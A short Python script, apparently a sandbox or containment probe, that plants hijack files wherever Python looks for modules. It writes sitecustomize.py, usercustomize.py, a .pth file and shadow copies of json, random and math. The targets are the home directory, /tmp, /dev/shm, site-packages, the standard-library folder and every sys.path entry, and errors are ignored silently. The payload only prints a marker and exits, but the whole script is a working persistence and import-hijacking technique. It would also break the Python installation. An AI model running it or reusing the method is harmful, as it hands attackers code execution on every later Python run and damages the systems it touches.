# Tries: to leave modules where the next interpreter looks for them.
# Success: the next run imports one.
import os
import site
import sys

BAD = "print('poisoned'); raise SystemExit(66)"
folders = {
    ".",
    os.environ.get("HOME", "."),
    site.getusersitepackages(),
    "/tmp",
    "/dev/shm",
    "/usr/lib/python3",
    os.path.dirname(os.__file__),
    *filter(None, sys.path),
}
for folder in folders:
    for name in (
        "sitecustomize.py",
        "usercustomize.py",
        "json.py",
        "random.py",
        "bad.pth",
        "host.py",
        "math.py",
    ):
        try:
            os.makedirs(folder, exist_ok=True)
            path = os.path.join(folder, name)
            open(path, "w").write(BAD if name.endswith(".py") else "import os; os._exit(66)")
        except OSError:
            pass
